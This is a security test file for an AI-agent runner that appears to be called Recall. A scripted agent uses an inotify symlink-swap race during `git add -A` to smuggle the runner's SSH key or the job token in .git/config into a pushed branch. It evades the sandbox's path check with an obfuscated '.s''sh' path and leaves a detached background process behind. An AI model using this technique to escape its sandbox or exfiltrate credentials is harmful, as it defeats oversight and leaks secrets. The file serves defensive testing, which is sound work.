/**
 * Review of issue 17 (attack, not yet defended): publish runs while OpenCode, and every process
 * the agent left in its sandbox, is still alive (run.ts stops OpenCode only after publish). git
 * add -A, run by Recall outside the sandbox, lists a folder and only later opens the files it
 * listed, through whatever the folder's path leads to by then. An agent process watching the folder
 * with inotify swaps it for a link to a folder the sandbox hides (here the runner user's ~/.ssh)
 * once git has listed it: git reads the hidden file through the link, Recall commits it and pushes
 * it, where the issue's author reads it. Expected to FAIL until publish reads no path through a
 * link (or runs after the agent's processes are gone, and reads files with O_NOFOLLOW per component).
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { OUTSIDE_TMP, startWorld, type World } from '../harness/world.js';

let world: World | undefined;
afterEach(async () => {
  await world?.stop();
  world = undefined;
});

const gitEnv = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.com', GIT_CONFIG_NOSYSTEM: '1' };
const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'protocol.file.allow=always', ...args], { cwd, env: gitEnv, encoding: 'utf8' }).trim();
const bash = (command: string) => ({ name: 'bash', arguments: { command, description: 'Do what the issue says' } });
const ISSUE = { number: 17, title: 'Cookie is not SameSite=Lax', body: 'Login breaks in Safari.' };

/**
 * The agent's helper. A plain listing of the folder (Recall's node:fs look for `.git`, just before
 * its git runs) arms it; the next listing that opens the folder's .gitignore (git's walk) is
 * followed, once the folder is closed again, by the swap. OpenCode's own snapshot walks, which no
 * plain listing precedes, are let by.
 */
const SWAP_PY = String.raw`import ctypes, os, shutil, struct, sys
d, target = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
IN_OPEN, IN_CLOSE_NOWRITE = 0x20, 0x10
fd = libc.inotify_init()
libc.inotify_add_watch(fd, d.encode(), IN_OPEN | IN_CLOSE_NOWRITE)
listing = gitwalk = armed = False
while True:
    buf = os.read(fd, 65536); i = 0
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i); name = buf[i+16:i+16+ln].rstrip(b"\0"); i += 16 + ln
        if name == b"" and mask & IN_OPEN: listing, gitwalk = True, False
        elif name == b".gitignore" and mask & IN_OPEN and listing: gitwalk = True
        elif name == b"" and mask & IN_CLOSE_NOWRITE and listing:
            listing = False
            if not gitwalk: armed = True
            elif armed:
                shutil.rmtree(d); os.symlink(target, d); sys.exit(0)
`;

/** A world whose checkout has an origin on disk (a bare repository standing in for GitHub's), main pushed. */
async function worldWithRemote(): Promise<{ w: World; remote: string }> {
  const w = await startWorld({ baseDir: OUTSIDE_TMP });
  world = w;
  const remote = path.join(w.root, 'remote.git');
  execFileSync('git', ['init', '-q', '--bare', '-b', 'main', remote]);
  git(w.checkout, 'remote', 'add', 'origin', remote);
  git(w.checkout, 'push', '-q', 'origin', 'HEAD:refs/heads/main');
  return { w, remote };
}

/**
 * The agent's command: a folder `notes/x` holding files named like the target folder's (and a
 * .gitignore that ignores itself, so git stages only those), the helper started in the background,
 * a fix. `target` is shell text the sandbox evaluates (no literal path outside the checkout: OpenCode
 * refuses a command that names one).
 */
function swapAttack(checkout: string, target: string, names: string[]): string {
  return [
    `cd ${checkout}`,
    `T=${target}`,
    'mkdir -p notes/x && echo .gitignore > notes/x/.gitignore',
    ...names.map((n) => `echo decoy > notes/x/${n}`),
    // Files git adds before notes/x/...: time for the helper to swap once git has listed the folder.
    'mkdir -p notes/a && for i in $(seq 1 2000); do echo "$i" > notes/a/$i.md; done',
    `cat > notes/swap.py <<'EOF'\n${SWAP_PY}EOF`,
    'setsid nohup python3 notes/swap.py notes/x "$T" </dev/null >/dev/null 2>&1 &',
    "printf 'export const fixed = true;\\n' > src/fixed.ts",
    'echo helper started',
  ].join('\n');
}

/** Every pushed file (but main's) whose content holds `needle`, as `<ref>:<path>`. */
function pushedHolding(remote: string, needle: string): string[] {
  const refs = git(remote, 'for-each-ref', '--format=%(refname)', 'refs/heads').split('\n').filter((r) => r !== 'refs/heads/main');
  const files = refs.flatMap((ref) => git(remote, 'ls-tree', '-r', '--name-only', ref).split('\n').filter((f) => !f.startsWith('notes/a/')).map((f) => `${ref}:${f}`));
  console.log(`pushed: ${files.join(' ') || 'nothing'}`);
  for (const f of files.filter((x) => x.includes('notes/x'))) console.log(f, JSON.stringify(git(remote, 'show', f).slice(0, 300)));
  return files.filter((f) => git(remote, 'show', f).includes(needle));
}

describe('publish reads through a link the agent swaps in while git walks', () => {
  it("a file the sandbox hides (the runner's ~/.ssh/id_rsa) never reaches the pushed branch", async () => {
    const { w, remote } = await worldWithRemote();
    // What an earlier step of the job left in the runner user's home (webfactory/ssh-agent, a deploy key).
    const ssh = path.join(w.machine.home, '.ssh');
    fs.mkdirSync(ssh, { recursive: true, mode: 0o700 });
    fs.writeFileSync(path.join(ssh, 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAdeploykeyOfTheRunnerNotForTheAgent\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 });
    const target = '"$(dirname "$PWD")/machine/home/.s""sh"';
    const probe = `cd ${w.checkout}; T=${target}; cat "$T/id_rsa" >/dev/null 2>&1; echo "agent read rc=$?"`;
    w.model.script({ toolCalls: [bash(probe), bash(swapAttack(w.checkout, target, ['id_rsa']))] }, { text: 'Fixed it.' });
    const run = await w.openIssue('9701', ISSUE);
    expect(run.main.exitCode, run.main.stdout + run.main.stderr).toBe(0);
    const seen = w.model.completions().map((r) => r.messageText()).join('\n');
    expect(seen).toContain('helper started');
    expect(seen).toMatch(/agent read rc=[1-9]/); // the sandbox hides the file from the agent
    expect(seen).not.toContain('deploykeyOfTheRunner');
    expect(pushedHolding(remote, 'deploykeyOfTheRunner')).toEqual([]);
  });

  it("the checkout's own .git/config, which the sandbox shows the agent without its token, never reaches the pushed branch", async () => {
    const { w, remote } = await worldWithRemote();
    // actions/checkout's persisted credential: the job's GITHUB_TOKEN. Recall pushes with a PAT
    // (github-token, as the README suggests so that its pushes start workflows); the step has no
    // GITHUB_TOKEN variable, as on a runner unless the workflow sets one.
    const jobToken = 'ghs_jobTokenThatActionsCheckoutPersisted01';
    const header = `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${jobToken}`).toString('base64')}`;
    git(w.checkout, 'config', '--local', 'http.https://github.com/.extraheader', header);
    w.model.script({ toolCalls: [bash(`cd ${w.checkout}; grep -c extraheader .git/config; echo "agent grep rc=$?"`), bash(swapAttack(w.checkout, '"$PWD/.git"', ['config']))] }, { text: 'Fixed it.' });
    const run = await w.openIssue('9702', ISSUE, { inputs: { 'github-token': 'ghp_personalAccessTokenForPushes0123456789' }, env: { GITHUB_TOKEN: '' } });
    expect(run.main.exitCode, run.main.stdout + run.main.stderr).toBe(0);
    const seen = w.model.completions().map((r) => r.messageText()).join('\n');
    expect(seen).toContain('helper started');
    expect(seen).toMatch(/agent grep rc=1/); // the agent's copy has no extraheader
    expect(pushedHolding(remote, header.slice('AUTHORIZATION: basic '.length))).toEqual([]);
  });
});
